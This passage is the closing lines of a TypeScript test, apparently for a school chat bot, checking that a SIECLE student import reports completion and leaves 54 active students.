  expect(cardText(bot.connector.drain('a:conv-29:referent').sent.at(-1)!.attachments![0]!.content)).toMatch(/Import SIECLE terminé/);
  expect(await activeStudents()).toBe(54);
});
